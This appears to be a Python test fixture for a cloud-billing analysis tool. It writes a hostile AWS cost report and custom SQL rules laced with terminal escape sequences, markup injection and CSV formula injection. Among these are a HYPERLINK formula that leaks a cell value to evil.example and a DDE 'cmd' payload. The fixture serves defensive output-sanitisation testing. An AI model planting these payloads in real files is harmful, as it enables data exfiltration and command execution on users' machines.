"""A bill an attacker could write: the scenario fixture's AWS CUR with payloads in tags, names and descriptions."""

from __future__ import annotations

import csv
import io
from pathlib import Path

from support import FIXTURES

SOURCE = FIXTURES / "scenarios/aws-cur-csv/20261101-20261201/scenario-cur-1.csv"
PERIOD = "2026-11"

ESC_PAYLOAD = ("\x1b[31mred\x1b[0m\x1b]8;;https://evil.example\x07osc\x1b]8;;\x07\x1b[2J\x1b]0;pwned\x1b\\"
               "\x9b2J\x07bell\x7f\x00\x1b(B")  # SGR, OSC-8, erase, OSC title, C1 CSI, BEL, DEL, NUL, charset
MARKUP_JOB = "[/x]"  # rich: closing tag with nothing to close
LINK_JOB = "[link=https://evil.example]click[/link]"  # rich: an OSC-8 hyperlink
ESC_JOB = "esc" + ESC_PAYLOAD  # what is left once cleaned: "escredosc" + "bell" (and the charset's)
RESOURCE = "[/oops]"
FORMULA = '=HYPERLINK("https://evil.example/?t="&E2,"USD")'
FORMULAS = (FORMULA, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1")
FORMULA_TEAM = FORMULA.lower()  # tag values are lower-cased

JOBS = {"alpha": MARKUP_JOB, "beta": LINK_JOB, "gamma": ESC_JOB}


def write_bill(folder: Path) -> Path:
    """The hostile export under ``folder`` (a CUR assembly folder); returns the folder to ingest."""
    rows = list(csv.reader(io.StringIO(SOURCE.read_text(encoding="utf-8"))))
    head = rows[0]
    col = {c: i for i, c in enumerate(head)}
    for r in rows[1:]:
        job = r[col["resourceTags/user:training-job"]]
        r[col["resourceTags/user:training-job"]] = JOBS.get(job, job)
        if r[col["resourceTags/user:Team"]] == "vision":
            r[col["resourceTags/user:Team"]] = FORMULA
        if r[col["lineItem/ResourceId"]] == "i-0a0000000000a2":
            r[col["lineItem/ResourceId"]] = RESOURCE
        if "restart" in r[col["lineItem/LineItemDescription"]]:
            r[col["lineItem/LineItemDescription"]] += " " + ESC_PAYLOAD + " " + LINK_JOB
        if r[col["lineItem/LineItemDescription"]].startswith("Tax"):
            r[col["lineItem/CurrencyCode"]] = FORMULA  # summary, report and export show currencies
        if r[col["identity/LineItemId"]] == "scenario000":
            r[col["lineItem/Operation"]] = FORMULAS[1]
    out = folder / "hostile-cur" / "20261101-20261201"
    out.mkdir(parents=True)
    buf = io.StringIO()
    csv.writer(buf, lineterminator="\n").writerows(rows)
    (out / "hostile-cur-1.csv").write_text(buf.getvalue(), encoding="utf-8")
    return folder / "hostile-cur"


RULE = """/*
id: TM100
name: custom.hostile
title: "[/x] [link=https://evil.example]click[/link] \\e[31mred\\e]8;;https://evil.example\\aosc\\a"
category: custom
severity: low
providers: [aws]
params:
  min_cost: {default: 0.0, description: "[/x] \\e[2J"}
description: |
  =HYPERLINK("https://evil.example") [bold]not bold[/bold]
*/
select x_LineItemId, '[/x] ' || ResourceId as reason
from line_items
where BilledCost > $min_cost and ResourceId = '[/oops]'
"""


FORMULA_RULE = """/*
id: TM101
name: custom.formula
title: '=HYPERLINK("https://evil.example/?t="&E2,"USD")'
category: custom
severity: low
providers: [aws]
*/
select x_LineItemId, '@SUM(A1:A9)' as reason from line_items where ResourceId = '[/oops]'
"""


def write_rule(folder: Path) -> Path:
    folder.mkdir(parents=True, exist_ok=True)
    (folder / "TM100_hostile.sql").write_text(RULE, encoding="utf-8")
    (folder / "TM101_formula.sql").write_text(FORMULA_RULE, encoding="utf-8")
    return folder
